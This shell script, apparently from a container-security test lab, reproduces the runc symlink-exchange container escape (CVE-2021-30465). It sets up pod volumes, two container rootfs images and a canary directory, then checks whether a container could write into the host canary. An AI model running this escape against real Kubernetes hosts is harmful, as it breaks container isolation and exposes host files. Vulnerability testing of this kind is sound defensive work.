#!/bin/sh
# CVE-2021-30465: runc mounts a nested volume through a destination the pod's other container swaps
# for a symlink. busybox sh; see README.md. Settings: mount-fd.
. "$BW_LAB/common/lib.sh"
set -u
ID=runc-mount-destination-symlink-exchange
W=$BW_WORK
CANARY=$W/canary
trap bw_host_cleanup EXIT
trap 'exit 143' HUP INT TERM
# The pod's emptyDir volumes test1 and test2, in the directory whose covering diverts the later
# mounts' sources: where the kubelet keeps them in the lab VM (BW_HOSTLIKE=1, pod uid bw-$BW_RUN),
# $BW_WORK/vols elsewhere.
if bw_hostlike; then
  POD=/var/lib/kubelet/pods/bw-$BW_RUN
  VOLS=$POD/volumes/kubernetes.io~empty-dir
  bw_host_mkdir "$POD" || exit 125
else
  VOLS=$W/vols
fi
chmod 755 "$W" || exit 125
mkdir -p "$VOLS/test1" "$VOLS/test2" "$CANARY" || exit 125
# The host directory the attack tries to expose (the PoC exposed "/"): recognisable from inside.
: >"$CANARY/.bw-host-dir" || exit 125
bw_make_rootfs "$W/rootfs-c1" "$BW_BIN/$ID.attack" || exit 125
bw_make_rootfs "$W/rootfs-c2" "$BW_BIN/$ID.attack" || exit 125
if [ "${BW_USERNS:-}" = 1 ]; then
  # As the kubelet does for a user-namespaced pod: its volumes belong to the pod's mapped root.
  chown -R "${BW_USERNS_BASE:-100000}:${BW_USERNS_BASE:-100000}" "$VOLS" || exit 125
fi

MOUNT_FD=
bw_setting mount-fd && MOUNT_FD=--mount-fd
# c1 swaps /test1/mnt with a symlink to $VOLS and has made test2/test2 a symlink to $CANARY; c2's
# process checks whether /test2 shows $CANARY.
bw_confined "${BW_MGMT_PROFILE:-}" timeout -s KILL 15 "$BW_BIN/$ID.manager" $MOUNT_FD \
  "$VOLS" "$W/rootfs-c1" "$W/rootfs-c2" \
  /attack swap /test1/mnt "$VOLS" /test2/test2 "$CANARY" -- \
  /attack probe /test2
rc=$?
if [ "$rc" = 125 ]; then
  echo "$ID: the manager could not run the scenario (exit 125)" >&2
  exit 1
fi
if [ -f "$CANARY/marker" ]; then
  bw_canary reached "a container wrote $CANARY/marker: runc mounted a volume outside the rootfs, exposing the host dir"
else
  bw_canary safe "nothing written to $CANARY"
fi
exit 0
